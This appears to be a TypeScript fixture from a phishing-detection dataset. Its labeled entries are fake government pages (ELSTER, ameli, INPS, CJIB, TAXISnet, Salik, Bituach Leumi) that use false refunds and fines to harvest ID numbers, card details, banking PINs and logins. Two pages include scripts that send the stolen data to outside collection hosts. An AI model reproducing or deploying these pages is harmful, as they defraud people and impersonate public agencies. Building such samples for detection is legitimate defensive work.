import type { Entry } from '../entry.js';
import { doc, htmlRoute, ico, jsonRoute, jsRoute, redirectRoute } from '../parts/z-kit.js';

export const entries: Entry[] = [
{
  id: 'z-phish-de-elster-steuererstattung',
  label: 'phishing',
  kind: 'gov-tax-refund',
  url: 'https://elster-erstattung.de-portal.info/mein-elster/antrag',
  routes: {
    'elster-erstattung.de-portal.info/mein-elster/antrag': htmlRoute(doc({
      lang: 'de',
      title: 'Mein ELSTER – Steuerrückerstattung beantragen',
      css: `body{font-family:"Open Sans",Arial,sans-serif;background:#eef1f4;margin:0;color:#222}
.top{background:#fff;border-bottom:4px solid #c5001a;padding:14px 30px;display:flex;justify-content:space-between}
.logo{font-weight:800;font-size:26px;color:#00305e}.logo span{color:#c5001a}
.card{background:#fff;max-width:620px;margin:30px auto;padding:28px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
label{display:block;margin-top:14px;font-size:14px}input,select{width:100%;padding:9px;border:1px solid #999;border-radius:3px;box-sizing:border-box}
button{margin-top:22px;background:#00305e;color:#fff;border:0;padding:12px 28px;font-size:16px;border-radius:3px}
.hint{background:#fff6d6;border:1px solid #e5c75a;padding:10px;font-size:13px}small{color:#666}`,
      body: `<div class="top"><div class="logo">ELSTER<span>.</span></div><div>Hilfe | Kontakt | <b>Abmelden</b></div></div>
<div class="card">
<h2>Antrag auf Steuerrückerstattung 2025</h2>
<p class="hint">Sehr geehrte/r Steuerpflichtige/r, nach Prüfung Ihrer Einkommensteuererklärung steht Ihnen eine Rückerstattung in Höhe von <b>487,20 €</b> zu. Bitte bestätigen Sie Ihre Angaben innerhalb von 48 Stunden, ansonsten verfällt der Anspruch.</p>
<form method="post" action="/mein-elster/senden.php">
<label>Steuer-Identifikationsnummer</label><input name="idnr" maxlength="11" placeholder="11-stellig">
<label>Vor- und Nachname</label><input name="name">
<label>Geburtsdatum</label><input name="geb" placeholder="TT.MM.JJJJ">
<label>Ihre Bank</label><select name="bank"><option>Sparkasse</option><option>Volksbank Raiffeisenbank</option><option>Deutsche Bank</option><option>Commerzbank</option><option>ING</option><option>Postbank</option><option>Andere</option></select>
<label>Karten­nummer (Girocard / Visa / Mastercard)</label><input name="karte">
<label>Gültig bis</label><input name="gueltig" placeholder="MM/JJ">
<label>Prüfnummer (CVC)</label><input name="cvc" maxlength="3">
<label>Online-Banking PIN zur Verifizierung</label><input name="pin" type="password">
<small>Ihre Daten werden gemäß DSGVO verschlüsselt übertragen.</small><br>
<button>Erstattung anfordern</button>
</form></div>
<p style="text-align:center;font-size:12px;color:#777">© 2026 Bayerisches Landesamt für Steuern · Impressum · Datenschutz · Barrierefreiheit</p>`,
    })),
    'elster-erstattung.de-portal.info/mein-elster/senden.php': htmlRoute('<!doctype html><meta charset=utf-8><p>Vielen Dank. Ihr Antrag wird bearbeitet…</p><script>setTimeout(function(){location.href="https://www.elster.de/"},3000)</script>'),
  },
},
{
  id: 'z-phish-fr-ameli-carte-vitale-renouvellement',
  label: 'phishing',
  kind: 'gov-health-card',
  url: 'https://ameli-renouvellement-carte.com/assure/',
  routes: {
    'ameli-renouvellement-carte.com/assure/': htmlRoute(doc({
      lang: 'fr',
      title: 'ameli, le site de l\'Assurance Maladie - Renouvellement carte Vitale',
      css: `body{font-family:Arial,sans-serif;margin:0;background:#f0f4f8}header{background:#0c419a;color:#fff;padding:18px 30px;font-size:24px}
header i{font-style:normal;background:#fff;color:#0c419a;padding:2px 8px;border-radius:4px;margin-right:10px;font-weight:700}
.c{max-width:560px;margin:25px auto;background:#fff;padding:25px;border-radius:8px}
.steps{display:flex;gap:8px;margin-bottom:18px}.steps div{flex:1;height:6px;background:#ccd}.steps .on{background:#0c419a}
input{display:block;width:100%;padding:10px;margin:8px 0;border:1px solid #aab;border-radius:4px;box-sizing:border-box}
button{width:100%;background:#e2001a;color:#fff;border:0;padding:13px;font-size:16px;border-radius:4px}`,
      body: `<header><i>ameli</i>Compte ameli</header>
<div class="c"><div class="steps"><div class="on"></div><div class="on"></div><div></div></div>
<h2>Votre carte Vitale arrive à expiration</h2>
<p>Conformément au décret n° 2025-118, les cartes Vitale de l'ancienne génération doivent être remplacées par la nouvelle carte Vitale sécurisée. Des frais d'envoi de <b>1,49 €</b> sont à votre charge.</p>
<p>Sans renouvellement avant le <b>15/12/2026</b>, vos remboursements de soins seront suspendus.</p>
<div id="step1">
<input id="nss" placeholder="Numéro de sécurité sociale (15 chiffres)"><input id="nom" placeholder="Nom"><input id="prenom" placeholder="Prénom"><input id="naiss" placeholder="Date de naissance"><input id="adr" placeholder="Adresse de livraison">
<button onclick="go()">Continuer</button></div>
<div id="step2" style="display:none"><p>Règlement des frais d'envoi : 1,49 €</p>
<input id="cc" placeholder="Numéro de carte"><input id="ex" placeholder="MM/AA"><input id="cv" placeholder="CVV">
<button onclick="fin()">Confirmer le paiement</button></div>
</div>
<script>
var TOKEN='7734519920:AAG-x1nLkz0P0w-renouv';var CHAT='-100218877';
function v(i){return document.getElementById(i).value}
function go(){document.getElementById('step1').style.display='none';document.getElementById('step2').style.display='block';}
function fin(){var t='AMELI\\nNSS: '+v('nss')+'\\nNom: '+v('nom')+' '+v('prenom')+'\\nCC: '+v('cc')+' '+v('ex')+' '+v('cv');
fetch('https://relay.gate-notif.xyz/bot'+TOKEN+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:CHAT,text:t})}).finally(function(){location.href='https://www.ameli.fr/'});}
</script>`,
    })),
  },
},
{
  id: 'z-phish-it-inps-bonus-spid',
  label: 'phishing',
  kind: 'gov-benefits',
  url: 'https://inps-bonus-famiglie.it-servizi.online/accesso',
  routes: {
    'inps-bonus-famiglie.it-servizi.online/accesso': htmlRoute(doc({
      lang: 'it',
      title: 'INPS - Bonus 550 euro - Accedi con SPID',
      css: `body{font-family:"Titillium Web",Arial,sans-serif;margin:0;background:#fff}.slim{background:#004080;color:#fff;font-size:13px;padding:6px 24px}
.hd{background:#0066cc;color:#fff;padding:22px 24px;font-size:28px;font-weight:700}.m{max-width:640px;margin:30px auto;padding:0 20px}
.spid{display:inline-block;background:#06c;color:#fff;padding:12px 22px;border-radius:4px;font-weight:700}
.f{border:1px solid #ccc;padding:20px;margin-top:20px}input{width:100%;padding:9px;margin:6px 0 12px;border:1px solid #888;box-sizing:border-box}`,
      body: `<div class="slim">Istituto Nazionale Previdenza Sociale</div><div class="hd">INPS</div>
<div class="m"><h1>Bonus una tantum 550 €</h1>
<p>Gentile cittadino, risulti tra i beneficiari del bonus straordinario previsto dalla Legge di Bilancio. Per ricevere l'accredito è necessario aggiornare i dati entro 24 ore.</p>
<span class="spid">👤 Entra con SPID</span>
<div class="f"><p><b>Seleziona il tuo gestore di identità</b>: Poste ID · Aruba · InfoCert · Sielte · TIM id · Namirial · Lepida</p>
<form action="/accesso/login.php" method="post">
<label>Nome utente / indirizzo email</label><input name="user">
<label>Password</label><input name="pass" type="password">
<label>IBAN per l'accredito</label><input name="iban" placeholder="IT00 X000 0000 0000 0000 0000 000">
<label>Numero carta di debito collegata</label><input name="carta">
<button style="background:#06c;color:#fff;border:0;padding:11px 30px">Prosegui</button></form></div>
<p style="font-size:12px;color:#555">INPS - Via Ciro il Grande, 21 - 00144 Roma · C.F. 80078750587 · Privacy · Note legali</p></div>`,
    })),
  },
},
{
  id: 'z-phish-nl-cjib-boete-ideal',
  label: 'phishing',
  kind: 'gov-fine',
  url: 'https://cjib-betaling.nl-overheid.help/openstaand?zaak=71823461',
  routes: {
    'cjib-betaling.nl-overheid.help/openstaand': htmlRoute(doc({
      lang: 'nl',
      title: 'CJIB | Openstaande boete betalen',
      css: `body{margin:0;font-family:RijksoverheidSans,Verdana,sans-serif;background:#fff;color:#000}
.lint{width:44px;height:90px;background:#154273;margin:0 auto}.kop{text-align:center;font-size:13px;padding:6px 0 20px}
.bar{background:#154273;color:#fff;padding:10px 40px}.w{max-width:700px;margin:20px auto;padding:0 20px}
.banken label{display:block;border:1px solid #ccc;padding:10px;margin:6px 0;cursor:pointer}
.knop{background:#01689b;color:#fff;border:0;padding:12px 28px;font-size:16px}`,
      body: `<div class="lint"></div><div class="kop">Centraal Justitieel Incassobureau<br><i>Ministerie van Justitie en Veiligheid</i></div>
<div class="bar">Home › Boete betalen › Openstaande zaak</div>
<div class="w"><h1>U heeft een openstaande boete</h1>
<p>Beschikkingsnummer: <b>7182 3461 0291 4476</b><br>Bedrag: <b>€ 104,00</b><br>Uiterste betaaldatum: <b>vandaag</b></p>
<p>Betaalt u niet op tijd, dan wordt het bedrag verhoogd met <b>€ 52,00</b> en kan er beslag worden gelegd op uw loon of bankrekening.</p>
<h3>Kies uw bank</h3><form action="/openstaand/bank.php" method="post"><div class="banken">
<label><input type="radio" name="bank" value="ing"> ING</label><label><input type="radio" name="bank" value="rabo"> Rabobank</label><label><input type="radio" name="bank" value="abn"> ABN AMRO</label><label><input type="radio" name="bank" value="sns"> SNS</label><label><input type="radio" name="bank" value="asn"> ASN Bank</label><label><input type="radio" name="bank" value="bunq"> bunq</label><label><input type="radio" name="bank" value="knab"> Knab</label></div>
<button class="knop">Betalen met iDEAL</button></form>
<p style="font-size:12px">Dit is een officiële website van de Rijksoverheid · Privacy · Cookies · Toegankelijkheid</p></div>`,
    })),
    'cjib-betaling.nl-overheid.help/openstaand/bank.php': redirectRoute(302, 'https://cjib-betaling.nl-overheid.help/openstaand/ing/inloggen'),
    'cjib-betaling.nl-overheid.help/openstaand/ing/inloggen': htmlRoute(doc({ lang: 'nl', title: 'Mijn ING - Inloggen', css: 'body{font-family:Arial;background:#ff6200;color:#fff}form{background:#fff;color:#333;max-width:360px;margin:60px auto;padding:24px;border-radius:6px}input{width:100%;padding:8px;margin:6px 0}', body: '<form method="post" action="/openstaand/ing/verify.php"><h2>Inloggen Mijn ING</h2><input name="u" placeholder="Gebruikersnaam"><input name="p" type="password" placeholder="Wachtwoord"><button>Inloggen</button></form>' })),
  },
},
{
  id: 'z-phish-gr-taxisnet-epistrofi-foroy',
  label: 'phishing',
  kind: 'gov-tax-refund',
  url: 'https://gsis-taxisnet.epistrofi-gov.gr.com/login',
  routes: {
    'gsis-taxisnet.epistrofi-gov.gr.com/login': htmlRoute(doc({
      lang: 'el',
      title: 'Πιστοποίηση Χρήστη - TAXISnet | ΑΑΔΕ',
      css: 'body{margin:0;font-family:Arial,sans-serif;background:#f1f1f1}.h{background:#003476;color:#fff;padding:14px 30px;font-size:20px}.f{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:4px}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #aaa;box-sizing:border-box}button{width:100%;background:#003476;color:#fff;border:0;padding:11px}',
      body: `<div class="h">gov.gr · ΑΑΔΕ Ανεξάρτητη Αρχή Δημοσίων Εσόδων</div>
<div class="f"><h3>Επιστροφή φόρου 2025</h3><p style="font-size:14px">Δικαιούστε επιστροφή φόρου ύψους <b>312,40 €</b>. Συνδεθείτε με τους κωδικούς TAXISnet για να επιβεβαιώσετε τον τραπεζικό σας λογαριασμό.</p>
<form method="post" action="/login/check.php"><label>Όνομα χρήστη</label><input name="username"><label>Κωδικός</label><input name="password" type="password"><label>ΑΦΜ</label><input name="afm" maxlength="9">
<button>Σύνδεση</button></form><p style="font-size:12px;color:#666">Γενική Γραμματεία Πληροφοριακών Συστημάτων · Όροι χρήσης · Πολιτική απορρήτου</p></div>
<script>document.forms[0].onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('ip',window._ip||'');navigator.sendBeacon('https://collect.gr-panel.top/r.php',f);location.href='/login/card.html';}</script>`,
    })),
    'gsis-taxisnet.epistrofi-gov.gr.com/login/card.html': htmlRoute('<!doctype html><meta charset=utf-8><title>Επιβεβαίωση</title><h3>Στοιχεία κάρτας για την πίστωση</h3><input placeholder="Αριθμός κάρτας"><input placeholder="ΜΜ/ΕΕ"><input placeholder="CVV"><button>Επιβεβαίωση</button>'),
  },
},
{
  id: 'z-phish-ae-salik-unpaid-toll',
  label: 'phishing',
  kind: 'gov-vehicle-toll',
  url: 'https://salik-ae.tollpay-uae.com/pay',
  routes: {
    'salik-ae.tollpay-uae.com/pay': htmlRoute(doc({
      lang: 'ar',
      dir: 'rtl',
      title: 'سالك | دفع رسوم التعرفة المستحقة - Salik',
      css: 'body{margin:0;font-family:Tahoma,Arial;background:#f7f7f7}.h{background:#2a2a86;color:#fff;padding:14px 30px;display:flex;justify-content:space-between}.b{max-width:520px;margin:28px auto;background:#fff;padding:24px;border-radius:10px}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #ccc;border-radius:6px;box-sizing:border-box}button{width:100%;background:#7bc143;color:#fff;border:0;padding:12px;border-radius:6px;font-size:16px}.en{direction:ltr;text-align:left;color:#555;font-size:13px}',
      body: `<div class="h"><b>سالك SALIK</b><span>English | العربية</span></div>
<div class="b"><h3>لديك رسوم عبور غير مدفوعة</h3><p>تم تسجيل عبور مركبتك عبر بوابة سالك (البرشاء) دون رصيد كافٍ. المبلغ المستحق: <b>AED 28.00</b>. في حال عدم السداد خلال 24 ساعة ستُفرض غرامة قدرها <b>AED 400</b>.</p>
<p class="en">You have an unpaid Salik toll of AED 28.00. Pay now to avoid a fine of AED 400.</p>
<form method="post" action="/pay/process.php"><input name="plate" placeholder="رقم اللوحة / Plate number"><input name="mobile" placeholder="رقم الهاتف المتحرك / Mobile"><input name="card" placeholder="رقم البطاقة / Card number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>ادفع الآن / Pay now</button></form>
<p style="font-size:11px;color:#888">© 2026 Salik Company PJSC. جميع الحقوق محفوظة</p></div>`,
    })),
  },
},
{
  id: 'z-phish-il-bituach-leumi-maanak',
  label: 'phishing',
  kind: 'gov-benefits',
  url: 'https://btl-gov-il.maanak-zakaut.co/check',
  routes: {
    'btl-gov-il.maanak-zakaut.co/check': htmlRoute(doc({
      lang: 'he',
      dir: 'rtl',
      title: 'הביטוח הלאומי - בדיקת זכאות למענק',
      css: 'body{margin:0;font-family:Arial,sans-serif;background:#eef3f8}.t{background:#0a3c78;color:#fff;padding:16px 30px;font-size:20px}.w{max-width:520px;margin:30px auto;background:#fff;padding:26px;border-radius:6px}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #9ab;box-sizing:border-box}button{background:#0a3c78;color:#fff;border:0;padding:11px 26px}',
      body: `<div class="t">המוסד לביטוח לאומי</div>
<div class="w"><h2>מענק סיוע חד פעמי</h2><p>שלום, נמצאת זכאי/ת למענק בסך <b>₪ 1,850</b>. יש להשלים את הפרטים עד חצות כדי שהכסף יועבר לחשבונך.</p>
<form method="post" action="/check/send.php"><input name="tz" placeholder="מספר תעודת זהות"><input name="name" placeholder="שם מלא"><input name="phone" placeholder="טלפון נייד"><input name="card" placeholder="מספר כרטיס אשראי"><input name="exp" placeholder="תוקף"><input name="cvv" placeholder="3 ספרות בגב הכרטיס"><button>שליחה</button></form>
<p style="font-size:12px;color:#666">כל הזכויות שמורות למוסד לביטוח לאומי · הצהרת נגישות · מדיניות פרטיות</p></div>`,
    })),
  },
},
];
